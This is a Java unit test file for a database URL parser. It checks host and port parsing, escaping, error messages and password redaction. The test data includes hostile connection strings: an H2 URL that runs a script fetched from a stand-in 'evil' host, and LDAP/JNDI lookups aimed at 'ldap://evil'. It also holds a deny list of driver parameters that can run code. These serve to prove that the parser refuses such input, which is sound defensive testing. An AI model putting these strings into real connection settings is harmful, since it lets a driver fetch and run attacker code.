// SPDX-License-Identifier: Apache-2.0
package io.bellwether.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.bellwether.jdbc.DatabaseUrl.Host;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class DatabaseUrlTest {
  @Test
  void bothSpellingsAreTheSameAddress() {
    DatabaseUrl plain = DatabaseUrl.parse("postgresql://db.internal/shop?sslmode=require");
    assertThat(plain)
        .isEqualTo(DatabaseUrl.parse(" jdbc:postgresql://db.internal:5432/shop?sslmode=require"));
    assertThat(plain.hosts()).containsExactly(new Host("db.internal", 5432));
    assertThat(plain.database()).isEqualTo("shop");
    assertThat(plain.parameters()).containsExactly(java.util.Map.entry("sslmode", "require"));
    assertThat(plain).hasToString("postgresql://db.internal:5432/shop?sslmode=require");
  }

  @Test
  void severalHostsAndIpv6AreTaken() {
    DatabaseUrl url = DatabaseUrl.parse("postgres://a:6432,[2001:db8::7]:5433,[::1]/x");
    assertThat(url.hosts())
        .containsExactly(new Host("a", 6432), new Host("2001:db8::7", 5433), new Host("::1", 5432));
    assertThat(url.place()).isEqualTo("a:6432,[2001:db8::7]:5433,[::1]:5432");
    assertThat(url.dialect().driverUrl(url))
        .isEqualTo("jdbc:postgresql://a:6432,[2001:db8::7]:5433,[::1]:5432/x");
  }

  @Test
  void namesAreEscapedForTheDriver() {
    DatabaseUrl url = DatabaseUrl.parse("postgresql://a/x%3Fuser%3Dpostgres%20%22;%26");
    assertThat(url.database()).isEqualTo("x?user=postgres \";&");
    assertThat(url.dialect().driverUrl(url)).endsWith("/x%3Fuser%3Dpostgres%20%22%3B%26");
  }

  @Test
  void aFileIsOpenedForReadingOnly() {
    DatabaseUrl url = DatabaseUrl.parse("jdbc:sqlite:/var/lib/a b#1.db");
    assertThat(url.place()).isEqualTo("/var/lib/a b#1.db");
    assertThat(url.dialect().driverUrl(url))
        .isEqualTo("jdbc:sqlite:file:/var/lib/a%20b%231.db?mode=ro");
    assertThat(DatabaseUrl.parse("sqlite:///var/x.db"))
        .isEqualTo(DatabaseUrl.parse("sqlite:/var/x.db"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'",
        "jdbc:derby:memory:x;create=true",
        "db2://host/x:clientRerouteServerListJNDIName=ldap://evil;",
        "ldap://evil/x",
        "jdbc:hsqldb:mem:x"
      })
  void driversThatRunCodeAreRefused(String text) {
    assertThatThrownBy(() -> DatabaseUrl.parse(text))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("is refused")
        .hasMessageNotContaining("evil");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "socketFactory",
        "socketFactoryArg",
        "sslfactory",
        "sslhostnameverifier",
        "sslpasswordcallback",
        "sslpassword",
        "authenticationPluginClassName",
        "xmlFactoryFactory",
        "loggerFile",
        "preferQueryMode",
        "options",
        "ApplicationName",
        "socketTimeout",
        "readOnly",
        "service",
        "jaasApplicationName",
        "SSLMODE"
      })
  void whatIsNotAllowedIsRefusedWithWhatIs(String key) {
    assertThatThrownBy(() -> DatabaseUrl.parse("postgresql://a/x?" + key + "=canary"))
        .hasMessageContaining("'" + key + "' is not allowed in an address")
        .hasMessageContaining("allowed are channelBinding, currentSchema")
        .hasMessageNotContaining("canary");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "postgresql://monitor:canary@db/shop",
        "postgresql://monitor:can@ary@db/shop",
        "postgresql://monitor:ca/nary@db/shop",
        "postgresql://db/shop?password=canary",
        "postgresql://db/shop?user=x&PASSWORD=canary",
        "monitor:canary@db/shop",
        "jdbc:postgresql:canary@db",
        "postgresql://db/shop?sslmode=%zzcanary"
      })
  void noPasswordIsRepeated(String text) {
    assertThatThrownBy(() -> DatabaseUrl.parse(text))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageNotContaining("canary")
        .hasMessageNotContaining("nary");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "'' | no scheme",
        "db/shop | no scheme",
        "oracle://db/shop | known are postgresql, questdb, sqlite",
        "postgresql:db/shop | two slashes",
        "questdb://a,b/qdb | takes one",
        "questdb://db/qdb?options=x | allowed are sslmode, sslrootcert",
        "postgresql://db | names no database",
        "postgresql://db/ | names no database",
        "postgresql:///shop | names no host",
        "postgresql://db:0/shop | 1 to 65535",
        "postgresql://db:65536/shop | 1 to 65535",
        "postgresql://db:8o80/shop | 1 to 65535",
        "postgresql://db:/shop | 1 to 65535",
        "postgresql://::1:5432/shop | [2001:db8::7]:5432",
        "postgresql://%2Fvar%2Frun/shop | no usable host",
        "postgresql://a,,b/shop | no usable host",
        "postgresql://db/a%00b | can not be printed",
        "postgresql://db/shop?sslmode | has no value",
        "postgresql://db/shop?sslmode=a&sslmode=b | stands twice",
        "sqlite:data.db | whole path",
        "sqlite::memory: | more than a file",
        "sqlite::resource:x.db | more than a file",
        "sqlite:file:/x.db | more than a file",
        "sqlite:/x.db?immutable=1 | more than a file"
      })
  void everyMistakeIsNamedWithTheRemedy(String text, String told) {
    assertThatThrownBy(() -> DatabaseUrl.parse(text))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining(told);
  }
}
